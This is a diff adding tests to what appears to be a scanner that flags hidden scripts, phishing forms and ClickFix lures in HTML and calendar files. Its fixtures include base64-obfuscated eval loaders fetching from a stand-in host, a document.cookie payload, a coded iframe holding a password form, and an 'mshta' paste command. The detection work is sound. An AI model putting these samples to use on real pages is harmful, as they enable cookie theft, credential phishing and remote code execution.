@@ -472,3 +472,61 @@ test('a password form whose address is relative to a server', () => {
   assert.deepEqual(accusations(html('', `<base href="https://forms.example/">${form}`)), ['Html.CredentialForm'])
   harmless(html('', form))
 })
+
+suite('a page that hides the script it runs', () => {
+  const base64 = (text: string): string => Buffer.from(text).toString('base64')
+  const LOADER = "var s=document.createElement('script');s.src='https://kit.example/a.js';document.body.appendChild(s)"
+  const body = (content: string): Uint8Array => Buffer.from(`<html><body>${PARAGRAPH}${content}</body></html>`)
+  test('in an attribute of the same element', () => {
+    for (const [attribute, reading] of [
+      ['id', 'this.id'],
+      ['data-code', 'this.dataset.code'],
+      ['title', "this.getAttribute('title')"],
+    ])
+      has(body(`<img src="x:" ${attribute}="${base64(LOADER)}" onerror="eval(atob(${reading}))">`), 'Html.HiddenScript')
+  })
+  test('by a rare event, also in the folded description of an appointment', () => {
+    const details = `<details open ontoggle="eval(atob('${base64('alert(document.cookie)')}'))"></details>`
+    has(body(details), 'Html.HiddenScript')
+    const folded = `X-ALT-DESC;FMTTYPE=text/html:<html><body>${details}</body></html>`.replace(/.{70}/g, '$&\r\n ')
+    has(
+      Buffer.from(`BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n${folded}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`),
+      'Html.HiddenScript',
+    )
+  })
+  test('is none if its events only change the page', () =>
+    harmless(
+      body(
+        `<img src="a.png" id="logo" onerror="this.src='b.png';this.onerror=null"><details ontoggle="this.classList.toggle('open')"></details>`,
+      ),
+    ))
+})
+
+test('a password form in a frame whose page is coded', () => {
+  const form = '<form action="https://kit.example/a.php"><input type="email"><input type="password"></form>'
+  const frame = (page: string): Uint8Array =>
+    html(
+      `var a="${[...Buffer.from(page).toString('base64')].reverse().join('')}";var i=document.createElement("iframe");i.src="data:text/html;base64,"+a.split("").reverse().join("");document.body.appendChild(i)`,
+    )
+  has(frame(form), 'Html.Phishing')
+  harmless(frame('<p>Preview of the letter</p>'))
+})
+
+test('a password form that asks for the code of a card as well', () => {
+  const form = (fields: string): Uint8Array =>
+    html('', `${PARAGRAPH}<form action="https://bank.example/a.php"><input type="password" name="pin">${fields}</form>`)
+  has(form('<input name="card"><input name="cvv">'), 'Html.Phishing')
+  has(form('<input name="x" placeholder="pushTAN">'), 'Html.Phishing')
+  assert.deepEqual(accusations(form('<input name="titan"><input name="account">')), ['Html.CredentialForm'])
+  harmless(html('', '<form action="https://shop.example/pay"><input name="card"><input name="cvv"></form>'))
+})
+
+test('an article about pasted commands may have a button that copies its address', () => {
+  const article = (warning: string): Uint8Array =>
+    html(
+      '',
+      `<p>You are told to press Win+R, paste with Ctrl+V and press Enter to verify that you are not a robot: <code>mshta https://a.example/x.hta</code></p><p>${warning}</p><button onclick="navigator.clipboard.writeText(location.href)">Copy</button>`,
+    )
+  harmless(article('Never paste commands from web pages.'))
+  has(article('Then the page opens.'), 'Html.ClickFix')
+})
